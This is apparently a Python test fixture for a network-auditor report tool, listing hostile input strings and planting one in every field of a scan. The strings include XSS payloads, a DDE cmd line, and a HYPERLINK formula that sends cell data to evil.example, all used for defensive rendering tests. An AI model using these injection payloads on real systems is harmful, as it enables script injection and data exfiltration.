"""Hostile text, and a scan that has it in every field that a host, a file or a person fills."""

from dataclasses import replace

from auditor.model.lookup import Lookup, Lookups, OriginAnswer, Outcome, Purpose, Question, Reply
from auditor.model.match import Agreement, Comparison, Match, MatchReason, NearEnd, NetworkEvidence, Strength
from auditor.model.register import Site, Uplink
from auditor.model.scan import CircuitSeen, Gap, Gateway, ProbeSummary, Scan
from auditor.model.sightings import BlindSpot, Reason, Scope
from auditor.model.text import Text
from auditor.model.tunnel import Endpoint, Layer, NotTunnel, Owner, Remote, State, Tunnel, Way, Witness
from auditor.model.uplink import UplinkSeen
from tests.reports.sample_coverage import GAPS
from tests.reports.sample_objects import handoff
from tests.reports.sample_paths import judged, path, place
from tests.reports.sample_register import NOW, REGISTER, SINGAPORE, TELECOM, WAIVER, config
from tests.reports.samples import mixed

HOSTILE = (
    '<script>alert("x")</script>',
    "<img src=x onerror=alert(1)>",
    '"><a href="javascript:alert(1)" style="position:fixed">x</a>',
    "{{ 7 * 7 }}{% for x in y %}",
    "gw\u202egnp.exe\u2066\u2069\u200b",
    "\x1b]0;owned\x07\x1b[31mred\x00\x9b1m",
    "line\r\nbreak\u2028\u2029",
    "broken \\xff and \udcff lone",
    "]]></style></details></main>'''\"\"\"",
    "A" * 5000,
    "e" + "\u0301" * 40,
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    " \t@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1＋1;-2+3;\t=4",
    "[x](http://evil.example) ![y](http://evil.example/z.png) @admin #1 !2 GH-3 www.evil.example a@evil.example",
    "| a | b |\n| - | - |\n# head\n- item\n```\n<!-- -->\n1. one ` `` &lt;b&gt; \\| \\` $x$ :bomb: ~~a~~ **b** __c__",
    "]]>&amp;&#65;<?xml version='1.0'?><!DOCTYPE x>\x00\x08\ufffe\uffff\udcff",
)


def hostile(text: str) -> Scan:
    """Return a scan with `text` in every field that a host, a file or a person fills."""
    base = mixed()
    both = Text(text, text)
    origin = OriginAnswer(source=text, asked_at=NOW, asns=(64500,), prefix=text)
    at = replace(place("US", operator=text), source=both, origins=(origin,), reverse_names=(text,))
    answer = Reply(outcome=Outcome.ANSWERED, values=(text,), chain=(text,), resolvers=(text,), ttl_s=1)
    asked = Lookup(question=Question(Purpose.REVERSE, text, text, "PTR"), reply=answer, asked_at=NOW)
    reason = MatchReason(attribute=text, agrees=False, observed=text, registered=text, cid=text)
    row = Comparison(attribute=text, observed=both, registered=both, agreement=Agreement.CONTRADICTS, note=both)
    match = Match(
        strength=Strength.NONE,
        reasons=(reason,),
        candidates=(text,),
        provider=text,
        network_evidence=NetworkEvidence.UNKNOWN,
        network_evidence_reason=both,
        network_comparisons=(row, replace(row, observed=None, note=None)),
    )
    way = Way(interface=text, next_hop=text, source=text)
    end = Endpoint(address=text, port=1, transport=text, name=text)
    wicked = Scope(name=text, inode=1, door=text)
    tunnel = Tunnel(
        id="t-hostile",
        technology=text,
        scope=wicked,
        state=State.UP,
        state_reason=both,
        layers=(Layer(technology=text, door=text),),
        interface=text,
        ifindex=1,
        alias=text,
        local=end,
        remotes=(Remote(endpoint=end, identity=text, identity_kind="wireguard", way=way, prefixes=(text,)),),
        owner=Owner(program=text, path=text, pid=1, unit=text),
        routes=(text,),
        outer_id=text,
        witnesses=(Witness(probe=text, says=text, recheck=text),),
        contradictions=(both,),
    )
    near = (NearEnd(text, replace(at, operator_name=both, asn=1, asn_source=text, asn_dated=text, dated=text)),)
    one = replace(path("198.51.100.77", at, match, way), remote=text, near=near)
    uplink = UplinkSeen(
        interface=text,
        namespace=text,
        declared=Uplink(interface=text, provider=text, contract=text),
        class_="unknown",
        evidence=NetworkEvidence.MISMATCH,
        reason=both,
        ends=near,
        next_hops=near,
        comparisons=(row,),
    )
    accepted = replace(WAIVER, id=text, reason=text, owner=text, approver=text, objects=(text,))
    found = judged("tunnel", tunnel, (one,))
    port = replace(handoff().port, interface=text, alias=text, addresses=(text,), next_hops=(text,), routes=(text,))  # type: ignore[type-var]
    line = replace(handoff(), port=port, circuit=text, waiver=accepted, id=text)
    circuit = replace(SINGAPORE, cid=text, provider=text, type=text, status=text, contract=text, description=text)
    ends = replace(circuit.z, site=text, interface=text)
    spot = BlindSpot(probe=text, scope=text, source=text, reason=Reason.CRASHED, detail=text, hides=(text,), needs=text)
    return replace(
        base,
        version=text,
        gateway=Gateway(hostname=text, kernel=text, machine=text, privileges=(text,), scopes=(wicked,)),
        config=config(
            path=text,
            gateway_name=text,
            site=Site(
                name=text, name_zh=text, location="CN", uplinks=(Uplink(interface=text, provider=text, contract=text),)
            ),
        ),
        register=replace(
            REGISTER,
            path=text,
            circuits=(circuit,),
            providers=(replace(TELECOM, slug=text, name=text, name_zh=text),),
            waivers=(accepted,),
        ),
        objects=(found, line),
        uplinks=(uplink,),
        not_tunnels=(NotTunnel(scope=wicked, interface=text, ifindex=1, kind=text, reason=both),),
        circuits=(
            CircuitSeen(circuit=replace(circuit, z=ends), seen_by=text, contract_status="valid", remarks=(both,)),
        ),
        gaps=(Gap(spot=spot, acknowledged=replace(GAPS[2].acknowledged, reason=text, owner=text, approver=text)),),  # type: ignore[type-var]
        probes=(ProbeSummary(probe=text, scope=text, rows=1, blind_spots=1, duration_s=0.1),),
        waivers_expired=(),
        waivers_unused=(accepted,),
        notices=(both,),
        status_reasons=(both,),
        lookups=Lookups(enabled=True, resolvers=(text,), resolvers_from=text, asked=(asked,)),
    )
